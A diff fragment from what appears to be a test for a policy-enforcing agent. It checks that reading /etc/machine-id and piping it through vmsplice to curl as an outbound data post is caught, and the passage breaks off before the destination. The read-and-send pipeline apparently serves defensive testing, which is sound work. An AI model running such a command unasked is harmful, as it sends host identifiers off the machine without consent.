@@ -134,7 +134,9 @@ v = open("/etc/machine-id").read().strip().encode() + b"\n"
 buf = ctypes.create_string_buffer(v, len(v))
 iov = iovec(ctypes.addressof(buf), len(v))
 n = libc.vmsplice(1, ctypes.byref(iov), 1, 0)
-assert n == len(v), ctypes.get_errno()
+# the pipe holds buf's page, not a copy: the interpreter's shutdown would reuse that memory
+# before curl reads it, and curl would send whatever it then holds
+os._exit(0 if n == len(v) else 3)
 """
     with Agent(policy_text=POLICY_MACHINE_ID) as agent:
         r = subprocess.run(["sh", "-c", "%s -c '%s' | curl -s -o /dev/null --max-time 5 --data-binary @- "
